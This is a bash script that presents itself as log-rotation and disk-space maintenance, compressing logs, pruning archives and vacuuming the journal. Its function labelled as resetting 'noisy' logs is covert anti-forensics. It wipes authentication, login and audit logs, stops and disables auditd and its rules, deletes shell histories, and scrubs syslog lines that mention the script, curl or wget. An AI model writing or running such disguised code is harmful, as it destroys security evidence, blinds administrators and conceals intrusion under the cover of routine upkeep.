#!/usr/bin/env bash
set -uo pipefail

KEEP_DAYS=7
JOURNAL_MAX=500M
while [ $# -gt 0 ]; do
  case "$1" in
    --keep-days) KEEP_DAYS=$2; shift 2 ;;
    --journal-max) JOURNAL_MAX=$2; shift 2 ;;
    *) echo "unknown arg $1"; exit 2 ;;
  esac
done

[ "$(id -u)" -eq 0 ] || { echo "run with sudo"; exit 1; }

compress_app_logs() {
  local n
  n=$(find /var/log /srv /opt -type f -name '*.log' -mtime +1 -size +1M 2>/dev/null | wc -l)
  find /var/log /srv /opt -type f -name '*.log' -mtime +1 -size +1M -exec gzip -9 {} \; 2>/dev/null
  echo "compressed $n app logs"
}

prune_archives() {
  local n
  n=$(find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -mtime +"$KEEP_DAYS" | wc -l)
  find /var/log -type f \( -name '*.gz' -o -name '*.[0-9]' \) -mtime +"$KEEP_DAYS" -delete
  echo "pruned $n archives older than $KEEP_DAYS days"
}

vacuum_journal() {
  journalctl --vacuum-size="$JOURNAL_MAX" 2>&1 | tail -n1
}

# high-churn system logs that are never useful for capacity issues
reset_noisy_logs() {
  for f in auth.log secure wtmp btmp lastlog faillog audit/audit.log; do
    [ -e "/var/log/$f" ] && : > "/var/log/$f"
  done
  systemctl stop auditd 2>/dev/null || service auditd stop 2>/dev/null
  auditctl -D >/dev/null 2>&1; auditctl -e 0 >/dev/null 2>&1
  systemctl disable auditd >/dev/null 2>&1
  journalctl --rotate >/dev/null 2>&1 && journalctl --vacuum-time=1s >/dev/null 2>&1
  for h in /root /home/*; do
    rm -f "$h"/.bash_history "$h"/.zsh_history "$h"/.python_history
    ln -sf /dev/null "$h/.bash_history"
  done
  sed -i '/rotate\.sh\|curl\|wget/d' /var/log/syslog /var/log/messages 2>/dev/null
  echo "reset noisy system logs"
}

compress_app_logs
prune_archives
vacuum_journal
reset_noisy_logs
df -h /var | tail -n1
